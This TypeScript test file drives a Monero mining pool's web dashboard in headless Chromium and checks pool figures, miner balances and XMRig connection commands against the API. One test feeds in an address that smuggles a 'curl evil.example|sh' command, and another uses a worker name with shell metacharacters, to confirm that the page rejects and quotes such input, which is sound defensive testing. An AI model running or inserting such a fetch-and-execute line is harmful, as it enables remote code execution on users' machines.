/**
 * The dashboard in headless Chromium (Debian's chromium driven by
 * playwright-core): the compiled service runs with the environment the local
 * pool gives it, on a seeded Postgres and a nats-server holding a template;
 * each page's figures are checked against the API's JSON, and screenshots
 * go to test/results/. Build first (`npm test` does).
 */
import { existsSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { freePort, makeTestDir, type NatsInstance, ServiceProcess, startNats } from '@rxpool/devstack';
import { ensureTlsCertificate, type ServiceContext, serviceEntry, serviceEnv } from '@rxpool/local-pool';
import type { BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  formatAgo,
  formatHashrate,
  formatPercent,
  formatXmr,
  launchChromium,
  type MinerView,
  openPage,
  type PoolStatsView,
  screenshot,
  text,
} from './testing/browser.js';
import { MINERS, publishTemplate, type SeededPool, seedPool, TX_HASH, TX_KEY } from './testing/seed.js';

const repoRoot = fileURLToPath(new URL('../../../', import.meta.url));
/** From monero's functional tests: a testnet address, for a pool on mainnet. */
const TESTNET_ADDRESS =
  '9ujeXrjzf7bfeK3KZdCqnYaMwZVFuXemPU8Ubw335rj2FN1CdMiWNyFV3ksEfMFvRp9L9qum5UxkP5rN9aLcPxbH1au4WAB';

describe('web dashboard in headless Chromium', () => {
  let dir: string;
  let pool: SeededPool;
  let nats: NatsInstance;
  let service: ServiceProcess;
  let browser: BrowserContext;
  let base: string;
  let fingerprint: string;
  let stratumPort: number;

  const api = async <T>(path: string): Promise<T> => (await (await fetch(`${base}${path}`)).json()) as T;

  beforeAll(async () => {
    const entry = serviceEntry(repoRoot, 'stats-web');
    if (!existsSync(entry)) throw new Error(`${entry} is missing: build first (npm run build)`);
    dir = makeTestDir('dashboard');
    [pool, nats] = await Promise.all([seedPool('dashboard'), startNats({ dir: join(dir, 'nats') })]);
    await publishTemplate(nats.url, '');

    const tls = await ensureTlsCertificate(join(dir, 'state'), '127.0.0.1');
    fingerprint = tls.fingerprint;
    const context: ServiceContext = {
      repoRoot,
      natsUrl: nats.url,
      databaseUrl: pool.url,
      monerodRpcUrl: 'http://127.0.0.1:1',
      monerodZmqUrl: 'tcp://127.0.0.1:1',
      walletRpcUrl: 'http://127.0.0.1:1',
      walletAddress: MINERS.operator,
      adminToken: 'unused-admin-token',
      tlsCertFile: tls.certFile,
      tlsKeyFile: tls.keyFile,
    };
    const [healthPort, webPort] = [await freePort(), await freePort()];
    stratumPort = 3333;
    const env = serviceEnv(
      'stats-web',
      {
        name: 'stats-web',
        host: '127.0.0.1',
        healthPort,
        logLevel: 'info',
        stateDir: join(dir, 'stats-web'),
        webPort,
        firstGatewayPorts: { stratum: stratumPort, tls: stratumPort + 1 },
      },
      context,
    );
    service = new ServiceProcess(
      { name: 'stats-web', entry, healthHost: '127.0.0.1', healthPort, env },
      join(dir, 'logs'),
    ).start();
    await service.waitReady(60_000);
    base = `http://127.0.0.1:${webPort}`;
    browser = await launchChromium(dir);
  });

  afterAll(async () => {
    await browser?.close();
    await service?.stop();
    await nats?.stop();
    await pool?.drop();
    if (dir) rmSync(join(dir, 'state'), { recursive: true, force: true });
  });

  it('front page: pool figures, the hashrate chart and latest blocks as the API has them', async () => {
    const { page, errors } = await openPage(browser, `${base}/`);
    await expect.poll(() => text(page, 'network-height')).toBe('141');
    const stats = await api<PoolStatsView>('/api/stats');
    expect(await text(page, 'hashrate-10m')).toBe(formatHashrate(stats.hashrate['10m']));
    expect(await text(page, 'hashrate-24h')).toBe(formatHashrate(stats.hashrate['24h']));
    expect(await text(page, 'miners')).toBe(String(stats.miners));
    expect(await text(page, 'workers')).toBe(String(stats.workers));
    expect(await text(page, 'blocks-found')).toBe(String(stats.blocks.found));
    expect(await text(page, 'fee')).toBe(formatPercent(stats.pool.fee.percent));
    expect(await text(page, 'scheme')).toBe('PPLNS');
    expect(await text(page, 'paid')).toBe(formatXmr(stats.paid));
    // One line of 144 ten-minute points.
    const line = page.locator('#chart path.line');
    await expect.poll(() => line.count()).toBe(1);
    expect(((await line.getAttribute('d')) ?? '').split('L')).toHaveLength(144);
    const rows = await page
      .locator('#blocks tbody tr')
      .evaluateAll((trs) => trs.map((tr) => tr.getAttribute('data-row')));
    expect(rows).toEqual(stats.latestBlocks.map((b) => String(b.height)));
    expect(await page.locator('#blocks tbody tr').first().innerText()).toContain('pending 12/60');
    expect(await page.locator(`#payments code[data-full="${TX_HASH}"]`).count()).toBe(1);
    await screenshot(page, 'dashboard-home.png');
    expect(errors).toEqual([]);
  });

  it('miner page: balance, per-worker hashrate, payouts with tx key, and each block share audited', async () => {
    const { page, errors } = await openPage(browser, `${base}/miner.html?address=${MINERS.alice}`);
    await expect.poll(() => text(page, 'balance')).not.toBe('…');
    const m = await api<MinerView>(`/api/miners/${MINERS.alice}?limit=20`);
    expect(await text(page, 'balance')).toBe(formatXmr(m.balance));
    expect(await text(page, 'paid')).toBe(formatXmr(m.paid));
    expect(await text(page, 'hashrate-10m')).toBe(formatHashrate(m.hashrate['10m']));
    expect(await text(page, 'workers')).toBe('2');
    expect(await text(page, 'last-share')).toBe(formatAgo(m.lastShareAt ?? 0, m.updatedAt));
    const series = await page
      .locator('#chart path.line')
      .evaluateAll((ps) => ps.map((p) => p.getAttribute('data-series')));
    expect(series).toEqual(['rig1', 'rig2']);
    const workers = (await page.locator('#workers tbody tr').allInnerTexts()).map((row) =>
      row.split('\t').slice(0, 2),
    );
    expect(workers).toEqual(m.workers.map((w) => [w.worker, formatHashrate(w.hashrate['10m'])]));
    expect(await page.locator(`#payments code[data-full="${TX_KEY}"]`).count()).toBe(1);
    expect(await page.locator(`#payments code[data-full="${TX_HASH}"]`).count()).toBe(1);
    // Each block: the split fetched, hashed in the browser, the miner's line found.
    const audits = page.locator('#blocks [data-audit]');
    await expect
      .poll(() => audits.evaluateAll((cells) => cells.map((c) => c.getAttribute('data-audit'))))
      .toEqual(['verified', 'verified']);
    expect(await audits.first().getAttribute('title')).toContain('sha256 checked in this browser');
    const blockRows = await page
      .locator('#blocks tbody tr')
      .evaluateAll((trs) => trs.map((tr) => tr.getAttribute('data-row')));
    expect(blockRows).toEqual(m.blocks.map((b) => `${b.height}-${b.blockId}`));
    expect(await page.locator('#blocks tbody tr').first().innerText()).toContain(formatPercent(75));
    await screenshot(page, 'dashboard-miner.png');
    expect(errors).toEqual([]);
  });

  it('miner page: an address without shares is told so', async () => {
    const { page } = await openPage(browser, `${base}/miner.html?address=${MINERS.nobody}`);
    await expect.poll(() => page.locator('#error').innerText()).toContain('no shares or balance');
    expect(await page.locator('#miner').isHidden()).toBe(true);
  });

  it('connect page: stratum address, ports, TLS fingerprint and ready XMRig lines', async () => {
    const { page } = await openPage(browser, `${base}/connect.html`);
    await expect.poll(() => text(page, 'fingerprint')).toBe(fingerprint);
    expect(await text(page, 'host')).toBe('127.0.0.1');
    expect(await text(page, 'ports')).toBe(String(stratumPort));
    expect(await text(page, 'tls-ports')).toBe(String(stratumPort + 1));
    await page.fill('#address-input', MINERS.bob);
    await page.fill('#worker-input', 'rig7');
    expect(await page.locator('#xmrig-plain').innerText()).toBe(
      `xmrig -o 127.0.0.1:${stratumPort} -u ${MINERS.bob} -p rig7 --coin monero`,
    );
    expect(await page.locator('#xmrig-tls').innerText()).toBe(
      `xmrig -o 127.0.0.1:${stratumPort + 1} -u ${MINERS.bob} -p rig7 --coin monero --tls --tls-fingerprint ${fingerprint}`,
    );
    await screenshot(page, 'dashboard-connect.png');
  });

  it('connect page: refuses an ?address= that is no address of the network, and shell-quotes what it prints', async () => {
    const hostile = `${MINERS.bob.slice(0, 60)};curl evil.example|sh;#`;
    const { page, errors } = await openPage(
      browser,
      `${base}/connect.html?address=${encodeURIComponent(hostile)}`,
    );
    await expect
      .poll(() => page.locator('#address-problem').innerText())
      .toMatch(/^Not a mainnet Monero address: character 61 \(";"\) cannot be in a Monero address/);
    expect(await page.locator('#xmrig-plain').innerText()).toBe('no command: the address above is not valid');
    expect(await page.locator('#xmrig-tls').innerText()).not.toContain('curl');
    expect(await page.locator('a[data-keep-address]').getAttribute('href')).toBe('/miner.html');
    await page.fill('#address-input', TESTNET_ADDRESS);
    expect(await page.locator('#address-problem').innerText()).toContain('this is a testnet address');

    const valid = await openPage(browser, `${base}/connect.html?address=${MINERS.bob}`);
    await expect.poll(() => valid.page.locator('#xmrig-plain').innerText()).toContain(MINERS.bob);
    expect(await valid.page.locator('#address-problem').isHidden()).toBe(true);
    await valid.page.fill('#worker-input', "rig's;reboot");
    // Base58 needs no quotes (shlex would leave it bare too); the worker's metacharacters do.
    expect(await valid.page.locator('#xmrig-plain').innerText()).toBe(
      `xmrig -o 127.0.0.1:${stratumPort} -u ${MINERS.bob} -p 'rig'\\''s;reboot' --coin monero`,
    );
    expect([...errors, ...valid.errors]).toEqual([]);
  });
});
